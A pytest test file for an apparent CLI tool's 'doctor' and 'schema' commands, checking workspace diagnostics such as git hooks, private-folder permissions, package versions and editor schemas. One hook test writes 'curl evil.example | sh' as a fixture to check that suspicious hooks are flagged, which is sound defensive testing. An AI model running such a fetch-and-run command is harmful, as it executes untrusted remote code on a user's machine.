"""`copkit doctor` and `copkit schema`."""

import json
import re
import subprocess
from datetime import date
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from copkit.cli import diagnosis
from copkit.models.kinds import KINDS
from copkit.world import safety
from tests.cli.starting.helpers import copkit, files_of

Capture = pytest.CaptureFixture[str]
TODAY = date(2026, 4, 1)


def line(here: Path, what: str, today: date = TODAY, encoding: str = "utf-8") -> diagnosis.Line:
    (found,) = [one for one in diagnosis.examine(here, today, encoding) if one.what == what]
    return found


def test_all_is_well_in_a_fresh_workspace(fresh: Path, capsys: Capture) -> None:
    ended = copkit(capsys, "doctor", "--root", fresh, "--json")
    lines = json.loads(ended.out)["lines"]
    assert ended.code == 0
    of_the_test = ("screen", "compiled")
    assert {one["what"]: one["state"] for one in lines if one["what"] not in of_the_test} == dict.fromkeys(
        ["copkit", "Python", "packages", "YAML", "time zone", "templates", "cache", "fonts", "PDF", "Word",
         "calendars", "later years", "bank holidays", "git", "workspace", "private folder", "own templates",
         "hooks of git", "locks", "editor schemas"], "ok",
    )  # fmt: skip
    assert "1 community, 6 files" in line(fresh, "workspace").found


def test_without_a_workspace_it_says_how_to_start(tmp_path: Path, capsys: Capture) -> None:
    ended = copkit(capsys, "doctor", "--root", tmp_path)
    assert ended.code == 0
    assert re.search("missing +workspace", ended.out)
    assert "“copkit init” starts one." in ended.out


def test_yaml_without_libyaml_is_slow(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from copkit.yamlfile import events

    monkeypatch.setattr(events, "PARSER", events.PythonParser)
    assert line(tmp_path, "YAML").state == "slow"


def test_no_git(monkeypatch: pytest.MonkeyPatch, fresh: Path) -> None:
    monkeypatch.setenv("PATH", str(fresh))
    assert line(fresh, "git").state == "missing"
    assert line(fresh, "private folder").state == "ok"


def test_an_old_list_of_bank_holidays(tmp_path: Path) -> None:
    assert line(tmp_path, "bank holidays", date(2040, 1, 1)).state == "old"


def test_a_screen_without_all_letters(tmp_path: Path) -> None:
    assert line(tmp_path, "screen", encoding="cp1252").state == "missing"
    assert line(tmp_path, "screen").state == "ok"


def test_private_files_in_git(fresh: Path) -> None:
    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True, timeout=120)
    assert line(fresh, "private folder") == diagnosis.Line("private folder", "ok", "in private/, outside git")
    (fresh / ".gitignore").unlink()
    assert line(fresh, "private folder").found == "git does not ignore private/"
    subprocess.run(["git", "add", "--all"], cwd=fresh, check=True, timeout=120)
    (fresh / ".gitignore").write_text("private/\n")
    told = "git tracks files in private/, which is for what it must never see"
    assert line(fresh, "private folder")[1:3] == ("unsafe", told)


@pytest.mark.needs("Unix")
def test_a_private_folder_that_everybody_can_read(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (fresh / "private").stat().st_mode & 0o007 == 0, "init makes it for its owner and a group"
    monkeypatch.setattr(safety, "open_to_all", lambda folder: folder == fresh / "private")
    assert line(fresh, "private folder")[1:4] == (
        "unsafe", "everybody who uses this computer can read it", "chmod o-rx private",
    )  # fmt: skip


@pytest.mark.needs("Unix")
def test_a_folder_is_open_to_all_only_where_every_way_in_is() -> None:
    with TemporaryDirectory(dir="/tmp") as outer:
        folder = Path(outer) / "private"
        folder.mkdir()
        for modes, open_to_all in {(0o755, 0o755): True, (0o750, 0o755): False, (0o755, 0o751): False}.items():
            for place, mode in zip((folder.parent, folder), modes, strict=True):
                place.chmod(mode)
            assert safety.open_to_all(folder) is open_to_all
        assert not safety.open_to_all(folder / "nowhere")


@pytest.mark.needs("Unix")
def test_hooks_of_git_are_named_but_those_that_call_copkit(fresh: Path) -> None:
    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True, timeout=120)
    assert line(fresh, "hooks of git").state == "ok", "samples are none"
    texts = {"pre-commit": "exec copkit check --staged", "post-checkout": "curl evil.example | sh"}
    for name, text in texts.items():
        (fresh / ".git" / "hooks" / name).write_text(f"#!/bin/sh\n{text}\n")
        (fresh / ".git" / "hooks" / name).chmod(0o755)
    assert line(fresh, "hooks of git")[1:3] == ("look", "post-checkout")
    (fresh / "ours").mkdir()
    (fresh / "ours" / "pre-push").write_text("#!/bin/sh\n")
    (fresh / "ours" / "pre-push").chmod(0o755)
    subprocess.run(["git", "config", "core.hooksPath", "ours"], cwd=fresh, check=True, timeout=120)
    assert line(fresh, "hooks of git")[1:3] == ("look", "pre-push"), "a folder that travels with the files"


@pytest.mark.parametrize(
    ("told", "safe"),
    [("git version 2.37.7", False), ("git version 2.38.0", True), ("git version 2.50.1 (Apple Git-155)", True),
     ("git version 3.0.0.windows.1", True), ("git", False)],
)  # fmt: skip
def test_an_old_git_runs_what_a_folder_from_elsewhere_names(told: str, safe: bool) -> None:
    assert safety.is_safe_git(told) is safe


def test_a_drive_without_locks(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert line(fresh, "locks").state == "ok"
    monkeypatch.setattr(safety, "take", lambda _: True)
    before = files_of(fresh)
    assert line(fresh, "locks")[1:3] == ("look", "this drive has none")
    assert files_of(fresh) == before


def test_packages_of_another_version_are_named(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = diagnosis.version
    monkeypatch.setattr(diagnosis, "version", lambda name: "0.1" if name == "typer" else real(name))
    found = line(fresh, "packages")
    assert found.state == "look"
    assert re.fullmatch(r"1 of \d+ unpinned: typer 0\.1 \(tested: [\d.]+\)", found.found)


def test_code_that_is_compiled_at_each_start(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(diagnosis, "cache_from_source", lambda _: str(tmp_path / "none.pyc"))
    monkeypatch.setattr(diagnosis.sys, "dont_write_bytecode", True)
    assert line(tmp_path, "compiled")[1:4:2] == ("slow", "Unset PYTHONDONTWRITEBYTECODE.")
    monkeypatch.setattr(diagnosis.sys, "dont_write_bytecode", False)
    assert line(tmp_path, "compiled").found == "as each is used for the first time"
    monkeypatch.setattr(diagnosis.os, "access", lambda *_: False)
    assert line(tmp_path, "compiled").do.startswith("Install it with the right to write to ")


def test_a_cache_that_cannot_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "file"))
    assert line(tmp_path, "cache").state == "slow"


def test_templates_from_elsewhere_are_looked_at_first(fresh: Path) -> None:
    (fresh / "templates").mkdir()
    (fresh / "templates" / "agenda.html.j2").write_text("")
    assert line(fresh, "own templates")[1:3] == (
        "look", "1 came from elsewhere, so none is used, such as agenda.html.j2",
    )  # fmt: skip


def test_a_screen_holds_it_and_all_says_the_rest(fresh: Path, capsys: Capture) -> None:
    short, whole = (copkit(capsys, "doctor", "--root", fresh, *more).out.splitlines() for more in ((), ("--all",)))
    assert len(short) <= 12
    assert max(len(text) for text in short) <= 80
    assert any("workspace, private folder" in text for text in short)
    assert len(whole) > len(short)


def test_what_copkit_cannot_do_without_makes_the_exit_code(
    monkeypatch: pytest.MonkeyPatch, fresh: Path, capsys: Capture
) -> None:
    monkeypatch.setattr(diagnosis, "_zone", lambda: diagnosis.Line("time zone", "missing", "x", "y", vital=True))
    assert copkit(capsys, "doctor", "--root", fresh).code == 1


def test_schemas_are_made_for_those_who_ask(fresh: Path, capsys: Capture) -> None:
    assert line(fresh, "editor schemas").found == "none here; “copkit schema” lets an editor complete and check"
    ended = copkit(capsys, "schema", "--root", fresh)
    first, _, example = ended.out.splitlines()
    assert first == f"wrote {len(KINDS)} schemas in .copkit/schemas"
    assert example == "  # yaml-language-server: $schema=../../.copkit/schemas/community.json"
    assert line(fresh, "editor schemas").found == ".copkit/schemas"


def test_stale_schemas_are_told_and_renewed(fresh: Path, capsys: Capture) -> None:
    copkit(capsys, "schema", "--root", fresh)
    plan = fresh / ".copkit" / "schemas" / "plan.json"
    kept = plan.read_bytes()
    plan.write_text("{}")
    assert line(fresh, "editor schemas").state == "old"
    shown = copkit(capsys, "schema", "--root", fresh, "--dry-run")
    assert "a/.copkit/schemas/plan.json" in shown.out
    assert plan.read_text() == "{}"
    ended = copkit(capsys, "schema", "--root", fresh)
    same = len(KINDS) - 1
    assert ended.out == f"wrote 1 schema in .copkit/schemas; {same} were up to date\n"
    assert plan.read_bytes() == kept
    assert copkit(capsys, "schema", "--root", fresh).out.endswith("up to date; nothing was written.\n")


def test_schemas_go_where_out_says(tmp_path: Path, capsys: Capture) -> None:
    assert copkit(capsys, "schema", "--out", tmp_path / "here").code == 0
    assert set(files_of(tmp_path / "here")) == {f"{name}.json" for name in KINDS}
    assert copkit(capsys, "schema", "--out", tmp_path / "here", "--dry-run").code == 2


def test_schemas_need_a_workspace_or_a_folder(tmp_path: Path, capsys: Capture) -> None:
    ended = copkit(capsys, "schema", "--root", tmp_path)
    assert ended.code == 3
    assert "not a copkit workspace" in ended.err
